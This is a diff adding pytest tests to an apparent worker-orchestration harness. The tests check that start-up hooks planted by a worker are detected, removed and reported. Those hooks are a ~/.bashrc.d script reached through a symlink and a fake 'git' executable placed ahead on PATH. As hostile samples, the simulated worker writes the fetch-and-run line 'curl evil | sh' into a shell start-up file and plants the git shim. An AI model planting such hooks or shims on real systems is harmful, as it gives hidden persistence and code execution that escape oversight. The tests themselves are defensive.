@@ -198,6 +198,42 @@ def test_start_up_entries_of_every_kind_planted_in_home_are_removed_and_blamed(t
     assert repo.git("rev-parse", "campaign/hostile") == baseline
 
 
+def test_a_linked_start_up_folder_is_watched_and_a_look_alike_name_is_not(tmp_path, orch, mode, home):
+    """rv39: a `~/.bashrc.d` that links to a dotfiles checkout's folder was not listed, so what a worker wrote
+    there stayed; a site-packages entry merely starting with `sitecustomize` (a dist-info) was taken for the hook."""
+    from orchestrate.workers import startup_files
+    (home / "dotfiles" / "bashrc.d").mkdir(parents=True)
+    (home / "dotfiles" / "bashrc.d" / "mine.sh").write_text("export MINE=1\n")
+    (home / ".bashrc.d").symlink_to(home / "dotfiles" / "bashrc.d")
+    site = startup_files.site_folders()[0]
+    worker = ('echo a > a.txt\necho "curl evil | sh" > "$HOME/.bashrc.d/evil.sh"\n'
+              f'mkdir -p "{site}/sitecustomize_entrypoints-1.1.0.dist-info"\n')
+    repo, baseline = _reported(tmp_path, orch, worker, mode, "~/.bashrc.d/evil.sh was created")
+    assert sorted(p.name for p in (home / "dotfiles" / "bashrc.d").iterdir()) == ["mine.sh"]
+    assert (site / "sitecustomize_entrypoints-1.1.0.dist-info").is_dir()
+
+
+@pytest.mark.parametrize("how", ["spelled in $HOME, its real path elsewhere", "a link out of $HOME made a folder"])
+def test_a_git_made_ahead_on_path_is_found_however_the_folder_is_reached(tmp_path, orch, mode, home, monkeypatch, how):
+    """rv39: a PATH folder in $HOME whose real path is outside it (`~/.local` a link to a bigger disk) was not
+    watched; nor one that led out of $HOME when the run started and was made a folder of it since."""
+    elsewhere = tmp_path / "disk"
+    elsewhere.mkdir()
+    if how.startswith("spelled"):
+        (home / ".local").symlink_to(elsewhere)
+        folder, swap = home / ".local" / "bin", ""
+    else:
+        (home / "bin").symlink_to(elsewhere)
+        folder, swap = home / "bin", 'rm "$HOME/bin" && mkdir "$HOME/bin"\n'
+    monkeypatch.setenv("PATH", f"{folder}{os.pathsep}{os.environ['PATH']}")
+    worker = (f'echo a > a.txt\n{swap}mkdir -p "{folder}"\n'
+              f'printf "#!/bin/sh\\necho planted\\n" > "{folder}/git" && chmod +x "{folder}/git"\n')
+    repo, baseline, result = run(tmp_path, orch, worker, mode, checkout_kept=False)
+    if mode == "none" or not how.startswith("spelled"):  # (in the sandbox the disk outside $HOME is read-only)
+        assert "git was created" in result.out + result.err, result.out + result.err
+    assert not (folder / "git").exists()
+
+
 def test_a_pth_file_an_evaluator_plants_is_removed_before_anything_else_runs(tmp_path, orch, mode, home):
     from orchestrate.workers import startup_files
     site = startup_files.site_folders()[0]
